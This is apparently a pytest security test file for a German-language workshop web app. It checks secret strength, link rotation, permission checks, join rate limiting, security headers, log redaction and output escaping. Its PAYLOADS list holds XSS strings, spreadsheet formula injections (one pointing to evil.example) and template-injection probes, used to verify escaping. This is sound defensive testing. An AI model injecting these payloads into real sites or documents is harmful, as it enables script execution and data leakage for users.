"""Integrity of roles and links, join rate limits, web hardening, no third-party requests, secrets not in logs."""

from __future__ import annotations

import importlib
import inspect
import logging
import math
import pkgutil
import re
from collections.abc import Callable

import pytest
from nicegui.testing import User

from workshop import security
from workshop.models import Workshop
from workshop.runtime import runtime
from workshop.services import codes, participants, rotation
from workshop.services.errors import Forbidden, NotFound, ServiceError
from workshop.services.throttle import JoinThrottle, TooManyAttempts, find_code
from workshop.services.workshops import create_from_template
from workshop.templates import load_template

from .joining import choose, join, open_join_page
from .services.helpers import member, post
from .waiting import until

# --- secrets and codes ------------------------------------------------------------------------------

def test_link_secrets_have_at_least_128_random_bits_from_a_secure_source(monkeypatch):
    calls = []
    real = codes.secrets.token_urlsafe
    monkeypatch.setattr(codes.secrets, 'token_urlsafe', lambda n: calls.append(n) or real(n))
    secret = codes.new_secret()
    assert calls == [16]  # 16 bytes = 128 bits from the OS's CSPRNG (the secrets module)
    assert len(secret) == 22 and re.fullmatch(r'[\w-]+', secret)
    assert len({codes.new_secret() for _ in range(1000)}) == 1000


async def test_created_links_carry_distinct_strong_secrets(db, cluster):
    secrets_ = [cluster.lead_secret] + [b.moderator_secret for b in cluster.breakouts] + \
        [t.moderator_secret for t in cluster.topics]
    assert len(cluster.topics) == 3
    assert len(set(secrets_)) == len(secrets_)
    for s in secrets_:
        assert len(s) >= 22  # base64url: 22 characters hold 128 bits


def test_join_codes_are_short_and_unambiguous():
    assert not set('0O1IL') & set(codes.JOIN_ALPHABET)
    assert codes.JOIN_CODE_LENGTH == 6
    assert math.log2(len(codes.JOIN_ALPHABET) ** codes.JOIN_CODE_LENGTH) > 29
    for _ in range(200):
        code = codes.new_join_code()
        assert len(code) == 6 and set(code) <= set(codes.JOIN_ALPHABET)
    assert codes.normalise_join_code(' k7m-2qx ') == 'K7M2QX'


# --- rotation -------------------------------------------------------------------------------------

async def test_lead_rotates_a_moderator_link_and_the_old_one_stops_working(db, bus, cluster):
    from workshop.services import facilitation
    old = cluster.breakouts[0].moderator_secret
    new = await rotation.rotate_moderator_secret(db, bus, lead_secret=cluster.lead_secret,
                                                 breakout_id=cluster.breakouts[0].breakout_id)
    assert new != old and len(new) >= 22
    with pytest.raises(Forbidden):
        await facilitation.set_phase(db, bus, secret=old, phase='vote')
    await facilitation.set_phase(db, bus, secret=new, phase='vote')
    # the other rooms' links are untouched
    await facilitation.set_phase(db, bus, secret=cluster.breakouts[1].moderator_secret, phase='vote')
    # a moderator cannot rotate, and the lead only the breakouts of the own workshop
    with pytest.raises(Forbidden):
        await rotation.rotate_moderator_secret(db, bus, lead_secret=new, breakout_id=cluster.breakouts[0].breakout_id)
    other = await create_from_template(db, template=load_template('cluster-workshop'))
    with pytest.raises(NotFound):
        await rotation.rotate_moderator_secret(db, bus, lead_secret=cluster.lead_secret,
                                               breakout_id=other.breakouts[0].breakout_id)


async def test_lead_rotates_the_lead_link(db, bus, cluster):
    from workshop.services import lead
    new = await rotation.rotate_lead_secret(db, bus, lead_secret=cluster.lead_secret)
    assert new != cluster.lead_secret
    with pytest.raises(Forbidden):
        await lead.send_notice(db, bus, lead_secret=cluster.lead_secret, text='Pause')
    await lead.send_notice(db, bus, lead_secret=new, text='Pause')
    with pytest.raises(Forbidden):
        await rotation.rotate_lead_secret(db, bus, lead_secret=cluster.lead_secret)


# --- every moderator action is checked on the server ------------------------------------------------

def _moderator_actions() -> list[Callable]:
    """Every service function that takes a moderator's or the lead moderator's secret."""
    import workshop.services as package
    found = []
    for info in pkgutil.iter_modules(package.__path__):
        module = importlib.import_module(f'workshop.services.{info.name}')
        for name, fn in vars(module).items():
            if name.startswith('_') or not inspect.iscoroutinefunction(fn) or fn.__module__ != module.__name__:
                continue
            params = inspect.signature(fn).parameters
            if next(iter(params), None) != 'db':  # helpers inside a transaction (access.py) are not actions
                continue
            if 'secret' in params or 'lead_secret' in params:
                found.append(fn)
    return found


def _arguments(fn: Callable, ids: dict[str, int]) -> dict:
    values = {}
    for name, p in inspect.signature(fn).parameters.items():
        if p.kind is not p.KEYWORD_ONLY or p.default is not p.empty or name in ('secret', 'lead_secret'):
            continue
        annotation = str(p.annotation)
        if name == 'configured_secret':
            values[name] = 'the-real-admin-secret'
        elif name.endswith('_id') or name in ('number', 'round_number', 'topic_number', 'step', 'seconds', 'count',
                                            'days', 'position'):
            values[name] = ids.get(name, 1)
        elif 'bool' in annotation:
            values[name] = True
        elif 'list' in annotation or 'Sequence' in annotation:
            values[name] = ['x']
        elif 'bytes' in annotation:
            values[name] = None
        elif name == 'phase':
            values[name] = 'vote'
        else:
            values[name] = 'x'
    return values


async def test_a_participant_calling_any_moderator_action_is_refused(db, bus, cluster):
    token, breakout_id = await member(db, bus, cluster)
    idea_id = await post(db, bus, token, breakout_id, 'Eine Idee')
    second = await post(db, bus, token, breakout_id, 'Noch eine Idee')
    ids = {'breakout_id': breakout_id, 'idea_id': idea_id, 'keep_id': idea_id, 'merge_id': second,
           'participant_id': 1, 'round_number': 2,
           'topic_number': 1, 'number': 1, 'step': 1, 'seconds': 60, 'count': 1, 'days': 1, 'topic_id': 1}
    actions = _moderator_actions()
    assert len(actions) > 30, [a.__name__ for a in actions]
    names = {f'{a.__module__.rsplit(".", 1)[1]}.{a.__name__}' for a in actions}
    for expected in ('lead.remove_participant', 'lead.set_joining_locked', 'rotation.rotate_lead_secret',
                     'privacy.delete_workshop', 'curation.hide_idea', 'facilitation.set_phase',
                     'facilitation.open_alongside', 'rotation.rotate_topic_secret'):
        assert expected in names
    refused = []
    for action in actions:
        key = 'lead_secret' if 'lead_secret' in inspect.signature(action).parameters else 'secret'
        # also a topic's grant for a breakout of another topic (pages/moderator.py's topic link)
        for fake in (token, '', cluster.join_code, f'{cluster.topics[1].moderator_secret}:{breakout_id}'):
            try:
                positional = (db, bus) if 'bus' in inspect.signature(action).parameters else (db,)
                await action(*positional, **{key: fake}, **_arguments(action, ids))
            except Forbidden:
                continue
            except ServiceError as e:  # a refusal, but for the wrong reason: the secret must be checked first
                pytest.fail(f'{action.__module__}.{action.__name__} said {e!r} instead of refusing the participant')
            pytest.fail(f'{action.__module__}.{action.__name__} accepted a participant token as a secret')
        refused.append(action.__name__)
    assert len(refused) == len(actions)
    # and nothing changed: the idea is still there, visible, unedited
    from workshop.models import Idea
    async with db.session() as s:
        idea = await s.get(Idea, idea_id)
    assert not idea.hidden and idea.text == 'Eine Idee'


async def test_a_moderator_cannot_act_on_another_room(db, bus, cluster):
    from workshop.services import curation
    token, breakout_id = await member(db, bus, cluster, index=0)
    idea_id = await post(db, bus, token, breakout_id, 'Idee in W 1.1')
    with pytest.raises(ServiceError):
        await curation.hide_idea(db, bus, secret=cluster.breakouts[1].moderator_secret, idea_id=idea_id)


async def test_moderator_page_with_a_participant_token_is_refused(user: User):
    links = await create_from_template(runtime().db, template=load_template('cluster-workshop'))
    _, token = await participants.join(runtime().db, code=links.join_code)
    await user.open(f'/m/{token}')
    await user.should_see('Moderationslink ist nicht (mehr) gültig')
    await user.open(f'/lead/{token}')
    await user.should_see('Moderationslink ist nicht (mehr) gültig')


# --- join rate limits -----------------------------------------------------------------------------

async def test_wrong_codes_are_limited_per_address(db, cluster):
    throttle = JoinThrottle(wrong_codes='5/minute')
    async with db.session() as s:
        for _ in range(5):
            with pytest.raises(NotFound) as e:
                await find_code(s, 'ZZZZZZ', address='203.0.113.7', throttle=throttle)
            assert 'no workshop with the code ZZZZZZ' in str(e.value)  # a clear message
        with pytest.raises(TooManyAttempts):  # now even the right code is refused for this address …
            await find_code(s, cluster.join_code, address='203.0.113.7', throttle=throttle)
        # … but not for another one
        assert (await find_code(s, cluster.join_code, address='203.0.113.8', throttle=throttle)).join_code \
            == cluster.join_code
    with pytest.raises(TooManyAttempts):
        await participants.join(db, code=cluster.join_code, address='203.0.113.7', throttle=throttle)


async def test_right_codes_do_not_count_as_wrong_ones_and_joins_have_their_own_limit(db, cluster):
    throttle = JoinThrottle(wrong_codes='2/minute', joins='10/minute')
    for _ in range(10):  # a venue behind one address: many people join with the right code
        await participants.join(db, code=cluster.join_code, address='198.51.100.1', throttle=throttle)
    with pytest.raises(TooManyAttempts):  # a flood of fake participants is stopped
        await participants.join(db, code=cluster.join_code, address='198.51.100.1', throttle=throttle)
    await participants.join(db, code=cluster.join_code, address='198.51.100.2', throttle=throttle)


def test_default_limits_make_guessing_hopeless():
    from limits import parse_many

    from workshop.services import throttle
    per_hour = min(item.amount * 3600 / item.get_expiry() for item in parse_many(throttle.WRONG_CODES))
    codes_total = len(codes.JOIN_ALPHABET) ** codes.JOIN_CODE_LENGTH
    # even with 100 workshops open at once, one address needs years for a 50 % chance to hit any of them …
    hours = codes_total / 100 / 2 / per_hour
    assert hours / (24 * 365) > 3
    # … and more than a year with the whole bonus for joins (which needs hundreds of fake participants)
    assert codes_total / 100 / 2 / (per_hour + throttle.WRONG_CODES_BONUS_MAX * throttle.WRONG_CODES_PER_JOIN) \
        / (24 * 365) > 1


async def test_home_page_and_join_link_are_rate_limited(user: User):
    rt = runtime()
    rt.throttle = JoinThrottle(wrong_codes='3/minute')
    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
    await user.open('/')
    for wrong in ('ZZZZZ2', 'ZZZZZ3', 'ZZZZZ4'):  # each message names its code: one after the other
        user.find(marker='join-code').clear().type(wrong)
        user.find(marker='join-submit').click()
        await user.should_see(f'Es gibt keinen Workshop mit dem Code {wrong}', retries=20)
    user.find(marker='join-code').clear().type(links.join_code)
    user.find(marker='join-submit').click()
    await user.should_see('Zu viele Versuche', retries=20)
    page = await open_join_page(user, links.join_code)
    assert page.status == 429 and 'Zu viele Versuche' in page.message


async def _try_code(db, code: str, address: str, throttle: JoinThrottle, tokens: dict[str, str] | None = None) -> str:
    """What the address is told about ``code``: 'found', 'no such code' or 'too many' (with the message)."""
    async with db.session() as s:
        try:
            await find_code(s, code, address=address, throttle=throttle, tokens=tokens)
        except TooManyAttempts as e:
            return f'too many: {e}'
        except NotFound:
            return 'no such code'
    return 'found'


async def _answered(db, address: str, throttle: JoinThrottle) -> int:
    """How many wrong codes in a row the address is told are wrong before it is refused."""
    n = 0
    while await _try_code(db, 'ZZZZZZ', address, throttle) == 'no such code':
        n += 1
        assert n < 1000
    return n


async def test_wrong_codes_from_one_address_do_not_lock_out_the_venue_behind_it(db, cluster):
    """A venue behind one NAT (the default limits): someone typing 20 wrong codes and the honest
    typos of 300 people do not stop the people with the right code — each join lets the address
    get one more code wrong."""
    throttle, venue = JoinThrottle(), '198.51.100.20'
    for _ in range(30):  # the first to arrive
        await participants.join(db, code=cluster.join_code, address=venue, throttle=throttle)
    for _ in range(20):  # someone types codes at random
        assert await _try_code(db, 'ZZZZZZ', venue, throttle) == 'no such code'
    for i in range(300):  # 300 more; every third mistypes first (120 wrong codes in all: over the base 100/hour)
        if i % 3 == 0:
            assert await _try_code(db, 'ZZZZZ2', venue, throttle) == 'no such code'
        await participants.join(db, code=cluster.join_code, address=venue, throttle=throttle)


async def test_a_blocked_address_tells_a_guesser_nothing_and_stays_at_the_base_rate(db, cluster, monkeypatch):
    from workshop.services.rate_storage import LocalStorage
    now = [1_000_000.0]
    throttle, guesser = JoinThrottle(LocalStorage(clock=lambda: now[0])), '203.0.113.66'
    other = await create_from_template(db, template=load_template('cluster-workshop'))
    seat, token = await participants.join(db, code=cluster.join_code)  # a phone that joined earlier
    mine = {str(seat.workshop_id): token}

    assert await _answered(db, guesser, throttle) == 20  # no joins from this address: the base rate
    refused = await _try_code(db, cluster.join_code, guesser, throttle)
    assert refused.startswith('too many') and await _try_code(db, 'ZZZZZ3', guesser, throttle) == refused
    with pytest.raises(TooManyAttempts):
        await participants.join(db, code=other.join_code, address=guesser, throttle=throttle)
    # a browser with a seat still opens its own workshop; any other code, right or wrong, is refused alike
    assert await _try_code(db, cluster.join_code, guesser, throttle, tokens=mine) == 'found'
    assert await _try_code(db, other.join_code, guesser, throttle, tokens=mine) == refused
    assert await _try_code(db, 'ZZZZZ3', guesser, throttle, tokens=mine) == refused

    for _ in range(4):  # 20 a minute, 100 an hour
        now[0] += 61
        assert await _answered(db, guesser, throttle) == 20
    now[0] += 61
    assert await _answered(db, guesser, throttle) == 0
    assert await _try_code(db, other.join_code, guesser, throttle) == refused
    now[0] += 3600 - 5 * 61 + 1  # an hour after the first wrong code
    assert await _answered(db, guesser, throttle) == 20


async def test_the_allowance_grows_with_joins_only_up_to_its_cap(db, cluster):
    throttle = JoinThrottle(wrong_codes='5/minute', bonus_max=3)
    for _ in range(10):  # someone who knows one code and joins it again and again
        await participants.join(db, code=cluster.join_code, address='203.0.113.70', throttle=throttle)
    assert await _answered(db, '203.0.113.70', throttle) == 5 + 3


async def test_a_refused_join_earns_no_allowance(db, bus, cluster):
    throttle, address = JoinThrottle(wrong_codes='2/minute', bonus_max=5), '203.0.113.71'
    other_round = next(b.breakout_id for b in cluster.breakouts if b.label.startswith('W 2'))
    for _ in range(5):  # a room of another round: refused, nothing made
        with pytest.raises(ServiceError):
            await participants.enter_breakout(db, bus, code=cluster.join_code, tokens={}, breakout_id=other_round,
                                              address=address, throttle=throttle)
    assert await _answered(db, address, throttle) == 2


async def test_a_blocked_address_gets_the_same_page_for_any_code_but_a_seat_still_opens(user: User,
                                                                                       create_user):
    rt = runtime()
    rt.throttle = JoinThrottle(wrong_codes='3/minute', bonus_max=0)
    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
    other = await create_from_template(rt.db, template=load_template('cluster-workshop'))
    await join(user, links.join_code, 'W 1.1')  # this browser joined before its network was blocked
    form = await open_join_page(user, links.join_code, switch=True)
    guesser = create_user()  # a fresh browser behind the same address
    for code in ('ZZZZZ2', 'ZZZZZ3', 'ZZZZZ4'):
        assert (await guesser.http_client.get(f'/j/{code}')).status_code == 404
    right = await guesser.http_client.get(f'/j/{other.join_code}')
    wrong = await guesser.http_client.get('/j/ZZZZZ5')
    assert right.status_code == wrong.status_code == 429 and right.text == wrong.text
    posts = [await user.http_client.post(f'/j/{code}', data={'csrf': form.csrf, 'breakout': str(form.rooms['W1.2'])})
             for code in (other.join_code, 'ZZZZZ5')]
    assert posts[0].status_code == posts[1].status_code == 429 and posts[0].text == posts[1].text
    # the seated browser's own workshop still opens: its join page (to switch rooms) and the room
    page = await open_join_page(user, links.join_code, switch=True)
    assert page.status == 200 and page.rooms
    assert await choose(user, links.join_code, 'W 1.2', page=page) is None
    await user.should_see('W 1.2', retries=20)


def test_the_documented_join_limits_are_the_codes():
    from pathlib import Path

    from limits import parse_many

    from workshop.services import throttle
    text = (Path(__file__).resolve().parent.parent / 'docs' / 'security.md').read_text(encoding='utf-8')

    def documented(what: str) -> list[int]:
        m = re.search(rf'\*\*{what}\*\*\s+([\d,]+)\s+per\s+minute\s+and\s+([\d,]+)\s+per\s+hour', text)
        assert m, f'docs/security.md does not give the limit on {what}'
        return [int(n.replace(',', '')) for n in m.groups()]

    def coded(spec: str) -> list[int]:
        return [item.amount for item in sorted(parse_many(spec), key=lambda item: item.get_expiry())]
    assert documented('wrong codes') == coded(throttle.WRONG_CODES)
    assert documented('new participants') == coded(throttle.JOINS)
    bonus = re.search(r'one\s+more\s+wrong\s+code\s+for\s+each\s+new\s+participant[^.]*?up\s+to\s+([\d,]+)', text)
    assert bonus and int(bonus.group(1).replace(',', '')) == throttle.WRONG_CODES_BONUS_MAX
    assert throttle.WRONG_CODES_PER_JOIN == 1


@pytest.mark.redis
async def test_installations_sharing_a_redis_database_keep_their_own_join_limits(monkeypatch):
    import secrets

    import redis.asyncio as aioredis

    from . import servers
    url, run = servers.redis_url(db=9), secrets.token_hex(4)
    monkeypatch.setenv('WORKSHOP_BROKER_URL', url)
    throttles = []
    for prefix in (f'test-{run}-a:', f'test-{run}-b:'):
        monkeypatch.setenv('WORKSHOP_BROKER_PREFIX', prefix)
        throttles.append(JoinThrottle.from_env())
    a, b = throttles
    address = f'203.0.113.{run}'
    try:
        for _ in range(20):
            await a.wrong_code(address)
        with pytest.raises(TooManyAttempts):
            await a.check_code_attempt(address)
        await b.check_code_attempt(address)  # the other installation has counted nothing
        client = aioredis.Redis.from_url(url)
        try:
            assert await client.keys(f'test-{run}-a:*') and not await client.keys(f'test-{run}-b:*')
        finally:
            await client.aclose()
    finally:
        await a.reset()
        await b.reset()


# --- web hardening --------------------------------------------------------------------------------

def _pages(links) -> list[str]:
    b = links.breakouts[0]
    return ['/', f'/j/{links.join_code}', f'/wall/{links.join_code}', f'/wall/{links.join_code}/{b.breakout_id}',
            f'/m/{b.moderator_secret}', f'/lead/{links.lead_secret}', '/admin/test-admin-secret', '/j/ZZZZZZ']


async def test_security_headers_on_every_page(user: User):
    links = await create_from_template(runtime().db, template=load_template('cluster-workshop'))
    for path in _pages(links) + [f'/lead/{links.lead_secret}/protocol']:
        final = await user.http_client.get(path, follow_redirects=True)  # a secret link: exchanged, redirected
        assert final.status_code == (404 if path == '/j/ZZZZZZ' else 200), path
        for response in [*final.history, final]:
            h = response.headers
            csp = h['content-security-policy']
            assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
            assert "connect-src 'self' ws://workshop.test" in csp
            assert 'http:' not in csp.replace('ws://workshop.test', '') and '*' not in csp
            assert h['x-frame-options'] == 'DENY'
            assert h['referrer-policy'] == 'no-referrer'
            assert h['x-content-type-options'] == 'nosniff'
            # pages with secrets or personal data, also the ones a secret link's cookie opens (/m/~/…)
            assert h['cache-control'] == 'no-store', response.url
    static = await user.http_client.get('/assets/style.css')
    assert static.headers['x-content-type-options'] == 'nosniff'


_URL = re.compile(r'''(?:https?:|wss?:)?//([A-Za-z0-9.-]+\.[A-Za-z]{2,}|localhost|\d+\.\d+\.\d+\.\d+)(?::\d+)?''')


def _hosts(text: str) -> set[str]:
    return {m.group(1) for m in _URL.finditer(text)}


async def test_no_page_references_another_host(user: User, create_user: Callable[[], User]):
    """Fonts, scripts, styles and images all come from the app itself (checked in pages and their CSS/JS)."""
    rt = runtime()
    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
    phone = create_user()
    await join(phone, links.join_code, 'W 1.1')
    allowed = {'workshop.test', 'test'}  # the app's own public URL (in the QR code and links) and test host
    seen_assets: set[str] = set()
    for client, path in [(user, p) for p in _pages(links)] + [(phone, f'/j/{links.join_code}/room')]:
        response = await client.http_client.get(path, follow_redirects=True)
        html = response.text
        assert _hosts(html) <= allowed, (path, _hosts(html) - allowed)
        seen_assets |= set(re.findall(r'''(?:src|href)=["']([^"']+)["']''', html))
        seen_assets |= set(re.findall(r'''@import url\(["']?([^"')]+)''', html))
    local = {a for a in seen_assets if a.startswith('/') and not a.startswith('//')}
    assert seen_assets - local <= {'#'} or all(not _hosts(a) - allowed for a in seen_assets - local)
    assert any('socket.io' in a for a in local) and any('.css' in a for a in local)
    for asset in sorted(local):
        response = await user.http_client.get(asset)
        assert response.status_code == 200, asset
        if asset.endswith('.css'):
            assert not _hosts(response.text), (asset, _hosts(response.text))
            for font in re.findall(r'url\(["\']?([^"\')]+)', response.text):
                assert font.startswith(('data:', '/', '.')) or '://' not in font, (asset, font)


def test_websocket_origin_check():
    check = security.websocket_origin_check('https://workshop.example.org')
    environ = {'HTTP_HOST': 'workshop.example.org', 'wsgi.url_scheme': 'http'}
    assert check('https://workshop.example.org', environ)
    assert not check('https://evil.example.com', environ)
    assert not check('http://workshop.example.org.evil.com', environ)
    assert check(None, environ)  # no Origin: not a browser, nothing to forge
    local = {'HTTP_HOST': 'localhost:8080', 'wsgi.url_scheme': 'http'}
    assert check('http://localhost:8080', local)  # same origin as the request
    assert not check('http://localhost:9999', local)
    proxied = {'HTTP_HOST': '127.0.0.1:8080', 'wsgi.url_scheme': 'http', 'HTTP_X_FORWARDED_PROTO': 'https',
               'HTTP_X_FORWARDED_HOST': 'ws.example.net'}
    assert check('https://ws.example.net', proxied)


def test_the_app_uses_the_origin_check():
    from nicegui import core
    assert callable(core.sio.eio.cors_allowed_origins)
    assert not core.sio.eio.cors_allowed_origins('https://evil.example.com', {'HTTP_HOST': 'workshop.test',
                                                                               'wsgi.url_scheme': 'http'})


def test_session_cookie_is_secure_behind_https():
    assert security.cookie_settings('https://ws.example.org') == {'https_only': True, 'same_site': 'lax',
                                                                   'max_age': 14 * 24 * 3600}
    assert security.cookie_settings('http://192.168.1.5:8080')['https_only'] is False


async def test_hsts_only_behind_https():
    sent = []

    async def app(scope, receive, send):
        await send({'type': 'http.response.start', 'status': 200, 'headers': [(b'content-type', b'text/html')]})

    async def send(message):
        sent.append(message)
    for url, expected in (('https://ws.example.org', True), ('http://localhost:8080', False)):
        sent.clear()
        await security.SecurityHeaders(app, public_url=url)({'type': 'http', 'path': '/'}, None, send)
        names = {k for k, _ in sent[0]['headers']}
        assert (b'strict-transport-security' in names) is expected
        assert "connect-src 'self' wss://ws.example.org" in dict(sent[0]['headers'])[b'content-security-policy'] \
            .decode() or not expected


# --- logs -----------------------------------------------------------------------------------------

def test_secrets_are_redacted_in_logs(caplog):
    security.install_log_redaction()
    secret = codes.new_secret()
    access = logging.getLogger('uvicorn.access')
    with caplog.at_level(logging.INFO):
        access.info('%s - "%s %s HTTP/%s" %d', '127.0.0.1', 'GET', f'/m/{secret}', '1.1', 200)
        logging.getLogger('workshop.test').warning('opened /lead/%s/protocol', secret)
        logging.getLogger('nicegui').error('page /admin/%s failed', secret)
    assert caplog.records
    text = '\n'.join(r.getMessage() for r in caplog.records)
    assert secret not in text
    assert '/m/[secret]' in text and '/lead/[secret]/protocol' in text and '/admin/[secret]' in text
    # the pages a secret link's cookie opens hold no secret: logged as they are
    for path in ('/m/~/K7M2QX/3', '/lead/~/K7M2QX/protocol/download/pdf', '/admin/~'):
        assert security.redact(f'"GET {path} HTTP/1.1"') == f'"GET {path} HTTP/1.1"'


def test_no_code_logs_a_secret():
    """No log call or print in the code base is handed a secret, a token or a password as a value."""
    import ast
    from pathlib import Path
    root = Path(__file__).resolve().parent.parent / 'workshop'
    secretive = re.compile(r'secret|token|password', re.I)
    offenders = []
    for path in root.rglob('*.py'):
        for node in ast.walk(ast.parse(path.read_text(encoding='utf-8'))):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            target = node.func.value
            if not (isinstance(target, ast.Name) and target.id in ('log', 'logger', 'logging')):
                continue
            values = node.args[1:] + [k.value for k in node.keywords]
            names = [n.id if isinstance(n, ast.Name) else n.attr for v in values for n in ast.walk(v)
                     if isinstance(n, (ast.Name, ast.Attribute))]
            if any(secretive.search(name) for name in names):
                offenders.append(f'{path.relative_to(root)}:{node.lineno}')
    assert not offenders, offenders


# --- hostile input: only ever rendered as text ------------------------------------------------------

PAYLOADS = [
    '<script>alert("x")</script>',
    '<img src=x onerror=alert(1)>',
    '[klick mich](javascript:alert(1))',
    '<a href="javascript:alert(2)">Link</a>',
    '=HYPERLINK("http://evil.example/?"&A1;"Details")',
    '+SUMME(1;2)',
    '-2+3 mehr Mittel',
    '@SUMME(A1:A9)',
    'Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenherstellungsbetriebsvereinbarung' * 4,
    'Emoji 👩‍💻 🇩🇪 ✅ 👍🏽',
    'مرحبا بالعالم والتعاون — שלום עולם',
    '**fett** _kursiv_ `code` # Überschrift {{ 7*7 }} ${7*7}',
]


async def _hostile_workshop(db, bus, links, *, name: str = '<b>Eve</b> =1+1'):
    from workshop.services import curation, ideas, protocol
    _, token = await participants.join(db, code=links.join_code, name=name, organisation='<i>Org</i>')
    breakout_id = links.breakouts[0].breakout_id
    await participants.choose_breakout(db, bus, token=token, workshop_id=links.workshop_id, breakout_id=breakout_id)
    ids = []
    for n, text in enumerate(PAYLOADS):
        idea = await ideas.post_idea(db, bus, token=token, breakout_id=breakout_id, text=text, client_id=f'x{n}')
        assert idea.text == text  # stored exactly as typed (nothing to clean in these)
        ids.append(idea.id)
    secret = links.breakouts[0].moderator_secret
    await curation.set_group(db, bus, secret=secret, idea_id=ids[0], group='<script>alert(3)</script>')
    await protocol.set_name_authors(db, bus, lead_secret=links.lead_secret, name_authors=True)
    return token, ids


def test_no_participant_text_can_be_rendered_as_html():
    """The code base never hands text to an HTML sink: no ui.html, no v-html, no innerHTML.

    The one ``ui.markdown`` (the lead's protocol preview) gets Markdown whose every piece of
    text went through ``protocol.markdown.escape`` (tested below).
    """
    from pathlib import Path
    root = Path(__file__).resolve().parent.parent / 'workshop'
    sinks = re.compile(r'ui\.html\(|ui\.markdown\(|ui\.mermaid\(|add_body_html\(|v-html|innerHTML|outerHTML|'
                       r'insertAdjacentHTML|document\.write|\.setHTML\(|sanitize=False')
    found = []
    for path in sorted(root.rglob('*')):
        if path.suffix not in ('.py', '.js', '.vue', '.html') or path.name == 'security.py':
            continue
        for number, line in enumerate(path.read_text(encoding='utf-8').splitlines(), start=1):
            if sinks.search(line):
                found.append(f'{path.relative_to(root)}:{number}')
    allowed = {p for p in found if p.startswith('pages/protocol.py:')}  # the escaped Markdown preview
    assert set(found) - allowed == set(), found
    # and the html head holds only what the code puts there itself (no participant text)
    for path in root.rglob('*.py'):
        for number, line in enumerate(path.read_text(encoding='utf-8').splitlines(), start=1):
            if 'add_head_html(' in line:
                assert re.search(r"add_head_html\((f?)'<(link|style|meta|script)[^{]*'\)", line), \
                    f'{path.relative_to(root)}:{number}: {line.strip()}'


def test_markdown_preview_shows_hostile_text_as_text():
    import markdown2

    from workshop.protocol.markdown import escape
    for payload in PAYLOADS:
        html = markdown2.markdown(f'- {escape(payload)}\n', extras=['tables'])
        assert ('<script' not in html and '<img' not in html and '<a ' not in html and 'javascript:' not in \
            html.replace('javascript:alert', '')) or 'href' not in html, (payload, html)
        assert '<strong>' not in html and '<em>' not in html and '<code>' not in html and '<h1>' not in html


async def test_exports_contain_hostile_text_literally_and_neutralise_formulas(db, bus, cluster, tmp_path):
    import csv
    import io
    import subprocess
    import zipfile

    from workshop.protocol.render import export
    await _hostile_workshop(db, bus, cluster)

    table = (await export(db, cluster.workshop_id, 'csv')).content.decode('utf-8-sig')
    rows = list(csv.reader(io.StringIO(table), delimiter=';'))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        if payload[0] in '=+-@':
            assert "'" + payload in cells and payload not in cells  # a formula stays text
        else:
            assert payload in cells
    assert not [c for c in cells if c[:1] in ('=', '+', '-', '@')]
    assert "'<b>Eve</b> =1+1" in table or '<b>Eve</b> =1+1' in table  # the author column, as text

    md = (await export(db, cluster.workshop_id, 'md')).content.decode('utf-8')
    assert '<script' not in md and '<img' not in md and '<a href' not in md
    assert '&lt;script&gt;alert("x")&lt;/script&gt;' in md

    docx = (await export(db, cluster.workshop_id, 'docx')).content
    with zipfile.ZipFile(io.BytesIO(docx)) as z:
        xml = z.read('word/document.xml').decode('utf-8')
        rels = ''.join(z.read(n).decode('utf-8') for n in z.namelist() if n.endswith('.rels'))
    for payload in PAYLOADS:
        escaped = payload.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')
        assert escaped in xml or escaped.replace('"', '&quot;') in xml, payload
    assert 'javascript:' not in rels and '<script' not in xml

    pdf = (await export(db, cluster.workshop_id, 'pdf')).content
    assert b'/URI' not in pdf or b'javascript' not in pdf  # no link annotations out of participant text
    target = tmp_path / 'p.pdf'
    target.write_bytes(pdf)
    text = subprocess.run(['pdftotext', '-enc', 'UTF-8', str(target), '-'], capture_output=True, text=True,
                          check=True, timeout=60).stdout
    flat = ' '.join(text.split())
    for payload in ('<script>alert("x")</script>', '<img src=x onerror=alert(1)>', '[klick mich](javascript:alert(1))',
                    '=HYPERLINK(', '**fett** _kursiv_'):
        assert payload in flat, payload
    assert 'Donaudampfschifffahrts' in flat  # a very long word is broken, not lost


async def test_pages_show_hostile_text_as_text(user: User, create_user: Callable[[], User]):
    """Phone, moderator page and wall receive participant text only as text: labels or the data of
    a component whose template interpolates it as text (never ui.html/ui.markdown)."""
    from nicegui import ui
    rt = runtime()
    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
    b = links.breakouts[0]
    moderator, wall, phone = user, create_user(), create_user()
    await moderator.open(f'/m/{b.moderator_secret}')
    await wall.open(f'/wall/{links.join_code}/{b.breakout_id}')
    await join(phone, links.join_code, 'W 1.1')
    from workshop.services import ideas
    token = next(iter(participants_tokens(phone)))
    for n, text in enumerate(PAYLOADS):
        await ideas.post_idea(rt.db, rt.bus, token=token, breakout_id=b.breakout_id, text=text, client_id=f'p{n}')
    for viewer in (moderator, wall, phone):
        await until(lambda viewer=viewer: all(p in _texts_on(viewer) for p in PAYLOADS), 2,
                    what=lambda viewer=viewer: f'missing: {[p for p in PAYLOADS if p not in _texts_on(viewer)]}')
        for element in _elements(viewer):
            assert not isinstance(element, (ui.html, ui.markdown)), element


def participants_tokens(viewer: User) -> list[str]:
    """The participant tokens in NiceGUI's user storage (the simulated phone is the only participant)."""
    from nicegui import app
    tokens = []
    for storage in app.storage._users.values():
        tokens.extend(storage.get('participants', {}).values())
    assert tokens
    return tokens


def _elements(viewer: User) -> list:
    client = object.__getattribute__(viewer, 'client')
    return list(client.elements.values())


def _texts_on(viewer: User) -> set[str]:
    """Every text the page's elements hold: label texts and (for components) their props' strings."""
    from nicegui import ui
    texts: set[str] = set()

    def walk(value) -> None:
        if isinstance(value, str):
            texts.add(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, (list, tuple)):
            for v in value:
                walk(v)
    for element in _elements(viewer):
        if isinstance(element, ui.label):
            texts.add(element.text)
        walk(element.props)
        items = getattr(element, 'items', None)  # a component's server-side data (the idea boards)
        if isinstance(items, (dict, list)):
            walk(items)
    return texts


# --- the lead page's privacy and link controls ----------------------------------------------------

async def test_lead_page_rotates_links_and_anonymises(user: User):
